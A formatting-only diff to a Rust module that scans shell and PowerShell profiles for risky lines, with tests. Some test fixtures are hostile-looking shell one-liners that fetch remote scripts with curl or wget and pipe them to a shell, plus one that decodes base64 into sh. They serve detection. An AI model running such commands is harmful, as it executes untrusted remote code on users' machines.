@@ -71,9 +71,8 @@ fn evals(sys: &Sys, path: PathBuf, order: &'static str, judge: fn(&str) -> Optio
     let Ok(Some(bytes)) = sys.fs().read_if_there(&path, PROFILE_BYTES_MAX) else { return Vec::new() };
     let text = String::from_utf8_lossy(&bytes);
     let lines = text.lines().enumerate().filter(|(_, line)| !line.trim_start().starts_with('#'));
-    let found = lines.filter_map(|(index, line)| {
-        judge(line).map(|what| Eval { path: path.clone(), line: index + 1, what, order })
-    });
+    let found = lines
+        .filter_map(|(index, line)| judge(line).map(|what| Eval { path: path.clone(), line: index + 1, what, order }));
     found.take(RIVALS_MAX).collect()
 }
 
@@ -128,7 +127,8 @@ mod tests {
         for line in ["$iexPath = 1", "Import-Module posh-git", "Write-Host 'fiex'", "", "Set-Alias g git"] {
             assert_eq!(in_powershell(line), None, "{line}");
         }
-        for line in ["eval \"$(curl -fsSL https://x.test)\"", "wget -qO- x.test |  bash", "echo aGk= | base64 -d | sh"] {
+        for line in ["eval \"$(curl -fsSL https://x.test)\"", "wget -qO- x.test |  bash", "echo aGk= | base64 -d | sh"]
+        {
             assert!(in_shell(line).is_some(), "{line}");
         }
         for line in ["eval \"$(mise activate bash)\"", "alias c='curl -L'", "# curl x | sh", "source ~/.cargo/env"] {
@@ -138,7 +138,12 @@ mod tests {
 
     #[test]
     fn the_four_kinds_of_profiles_come_in_powershell_s_order() {
-        let vars = [("SystemRoot", if cfg!(windows) { "C:\\Windows" } else { "/windows" }), ("HOME", "/home/u"), ("USERPROFILE", "C:\\u"), ("APPDATA", "C:\\u\\a")];
+        let vars = [
+            ("SystemRoot", if cfg!(windows) { "C:\\Windows" } else { "/windows" }),
+            ("HOME", "/home/u"),
+            ("USERPROFILE", "C:\\u"),
+            ("APPDATA", "C:\\u\\a"),
+        ];
         let sys = Sys::new(sys::Fs::real(), sys::Clock::manual(0), sys::Env::of(vars, PathBuf::new(), None));
         let mut order: Vec<&str> = powershell_profiles(&sys).into_iter().map(|(_, order)| order).collect();
         assert!(order.is_sorted());
